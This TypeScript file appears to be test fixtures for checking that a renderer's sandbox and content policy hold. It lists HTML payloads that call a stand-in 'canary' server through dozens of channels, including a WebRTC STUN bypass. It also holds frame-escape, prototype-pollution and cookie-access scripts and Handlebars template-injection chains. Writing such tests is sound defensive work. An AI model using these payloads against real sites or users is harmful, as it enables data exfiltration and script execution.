/** HTML that sends a request as soon as it is shown; the canary's address represents any server. */
export function requests(canary: string): Record<string, string> {
  const script = (code: string) =>
    `<script>try { ${code} } catch (error) { console.debug(String(error)) }</script>`;
  return {
    image: `<img src="${canary}/image"><b>pair</b>`,
    "source set": `<img srcset="${canary}/srcset 1x">`,
    picture: `<picture><source srcset="${canary}/source"><img alt=""></picture>`,
    video: `<video src="${canary}/video" poster="${canary}/poster" autoplay></video>`,
    audio: `<audio src="${canary}/audio" autoplay></audio>`,
    track: `<video><track src="${canary}/track" default></video>`,
    "image button": `<input type="image" src="${canary}/input">`,
    "table background": `<table background="${canary}/table"><tr><td>1</td></tr></table>`,
    "SVG image": `<svg><image href="${canary}/svg-image"></image></svg>`,
    "SVG use": `<svg><use href="${canary}/use.svg#a"></use></svg>`,
    "SVG filter": `<svg><filter id="f"><feImage href="${canary}/feimage"></feImage></filter></svg>`,
    "style sheet": `<link rel="stylesheet" href="${canary}/sheet.css">`,
    preload: `<link rel="preload" as="image" href="${canary}/preload">`,
    prefetch: `<link rel="prefetch" href="${canary}/prefetch">`,
    preconnect: `<link rel="preconnect" href="${canary}"><link rel="dns-prefetch" href="${canary}">`,
    "module preload": `<link rel="modulepreload" href="${canary}/module.js">`,
    icon: `<link rel="icon" href="${canary}/icon"><link rel="manifest" href="${canary}/manifest">`,
    "CSS import": `<style>@import url("${canary}/import.css");</style>`,
    "CSS background": `<style>body { background: url("${canary}/background"); }</style>`,
    "CSS of an element": `<p style="background-image: url('${canary}/inline')">x</p>`,
    "CSS of a letter": `<style>p::before { content: url("${canary}/content"); }</style>`,
    font: `<style>@font-face { font-family: f; src: url("${canary}/font"); } body { font-family: f; }</style>`,
    frame: `<iframe src="${canary}/frame"></iframe>`,
    "frame in a frame": `<iframe srcdoc="<img src='${canary}/srcdoc'><script>fetch('${canary}/srcdoc-fetch')</script>"></iframe>`,
    object: `<object data="${canary}/object"></object>`,
    embed: `<embed src="${canary}/embed">`,
    "script from elsewhere": `<script src="${canary}/script.js"></script>`,
    "module from elsewhere": script(`import("${canary}/import.js").catch(() => {})`),
    fetch: script(`fetch("${canary}/fetch", { mode: "no-cors" }).catch(() => {})`),
    "old request": script(
      `const r = new XMLHttpRequest(); r.open("GET", "${canary}/xhr"); r.onerror = () => {}; r.send()`,
    ),
    beacon: script(`navigator.sendBeacon("${canary}/beacon", "x")`),
    socket: script(`new WebSocket("${canary.replace("http", "ws")}/socket")`),
    "event source": script(`new EventSource("${canary}/events")`),
    worker: script(
      `new Worker(URL.createObjectURL(new Blob(["fetch('${canary}/worker')"]))).onerror = (e) => e.preventDefault()`,
    ),
    "image of a script": script(`new Image().src = "${canary}/new-image"`),
    "script of a script": script(
      `const s = document.createElement("script"); s.src = "${canary}/new-script"; document.body.append(s)`,
    ),
    "call to a peer": script(call(canary)),
    "call from a frame in a frame": `<iframe srcdoc="${`<script>${call(canary)}</script>`.replaceAll('"', "&quot;")}"></iframe>`,
    "call from a frame of a script": script(
      `const f = document.createElement("iframe"); f.srcdoc = ${JSON.stringify(`<script>${call(canary)}</script>`)}; document.body.append(f)`,
    ),
    "call from a frame of an address": script(
      `const f = document.createElement("iframe"); f.src = ${JSON.stringify(`javascript:${call(canary)}`)}; document.body.append(f)`,
    ),
    "call from a frame of a shadow": script(
      `const s = document.body.appendChild(document.createElement("div")).attachShadow({ mode: "closed" }); s.innerHTML = ${JSON.stringify(`<iframe srcdoc="<script>${call(canary).replaceAll('"', "'")}</script>"></iframe>`)}`,
    ),
    "call from a frame of XML": script(
      `const d = new DOMParser().parseFromString(${JSON.stringify(`<x:iframe xmlns:x="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>${call(canary).replaceAll('"', "'").replaceAll("=>", "=&gt;")}&lt;/script>"/>`)}, "text/xml"); document.body.append(document.adoptNode(d.documentElement))`,
    ),
    "event handler": `<img src="data:," onerror="fetch('${canary}/handler').catch(() => {})">`,
    base: `<base href="${canary}/"><img src="based">`,
  };
}

/** Contacts a STUN server, which no directive for requests blocks. */
function call(canary: string): string {
  return `const call = new RTCPeerConnection({ iceServers: [{ urls: "${canary.replace("http://", "stun:")}" }] }); call.createDataChannel("x"); call.createOffer().then((offer) => call.setLocalDescription(offer))`;
}

/** HTML that navigates to another page, or submits itself to one. */
export function departures(canary: string): Record<string, string> {
  return {
    "meta refresh": `<p>x</p><meta http-equiv="refresh" content="0;url=${canary}/refresh">`,
    location: `<p>x</p><script>location.href = "${canary}/location"</script>`,
    "location of the page": `<p>x</p><script>top.location = "${canary}/top"</script>`,
    "location of the parent": `<p>x</p><script>parent.location.replace("${canary}/parent")</script>`,
    form: `<form action="${canary}/form"><input name="a" value="b"></form><script>document.forms[0].submit()</script>`,
    "form by a button": `<form action="${canary}/button"><button>b</button></form><script>document.querySelector("button").click()</script>`,
    "link to the top": `<a id="a" href="${canary}/link" target="_top">a</a><script>document.getElementById("a").click()</script>`,
    "link to a window": `<a id="a" href="${canary}/blank" target="_blank">a</a><script>document.getElementById("a").click()</script>`,
    "window.open": `<p>x</p><script>window.open("${canary}/window")</script>`,
    download: `<a id="a" href="data:text/plain,x" download="x.txt">a</a><script>document.getElementById("a").click()</script>`,
    ping: `<a id="a" href="#x" ping="${canary}/ping">a</a><script>document.getElementById("a").click()</script>`,
  };
}

/** Objects that a script in a frame tries to access; each attempt must fail or find nothing. */
export const reaches: Record<string, string> = {
  "the page's document": "parent.document.title = 'owned'",
  "the top's document": "top.document.body.innerHTML = 'owned'",
  "a variable of the page": "top.owned = 1",
  "the frame's own element":
    "if (frameElement === null) throw new Error('none'); frameElement.removeAttribute('sandbox')",
  cookies: "document.cookie = 'owned=1'",
  "local storage": "localStorage.setItem('owned', '1')",
  "session storage": "sessionStorage.setItem('owned', '1')",
  databases: "indexedDB.open('owned')",
  caches:
    "if (typeof caches === 'undefined') throw new Error('none'); caches.open('owned').then(() => {}, () => {}); throw new Error('asked')",
  "service workers": "navigator.serviceWorker.register('/x.js')",
};

/** A script that tries to access all of them and keeps what it gets. */
export const reaching = `<p>x</p><script>
window.got = [];
${Object.entries(reaches)
  .map(([what, code]) => `try { ${code}; window.got.push(${JSON.stringify(what)}); } catch {}`)
  .join("\n")}
parent.postMessage({ type: "key", press: { key: "Enter" } }, "*");
window.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", bubbles: true }));
document.body.dispatchEvent(new KeyboardEvent("keydown", { key: "1", bubbles: true }));
Object.prototype.polluted = "owned";
MessagePort.prototype.postMessage = () => {};
alert("owned");
</script>`;

/** Handlebars templates that try to access more than the record. */
export const templates: Record<string, string> = {
  constructor: "{{constructor.constructor.name}}{{record.constructor.name}}{{lookup record 'constructor'}}",
  prototype: "{{__proto__.toString}}{{lookup record '__proto__'}}{{record.__proto__.polluted}}",
  "a function made of text":
    '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |list|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |code|}}{{this.pop}}{{this.push "window.owned = 1; return 1"}}{{this.pop}}{{#each list}}{{#with (string.sub.apply 0 code)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}',
  "a helper that defines": "{{#with (__defineGetter__ 'polluted' record)}}{{this}}{{/with}}",
  "a lookup of a getter": "{{lookup (lookup record 'fields') '__lookupGetter__'}}{{valueOf.call}}",
};
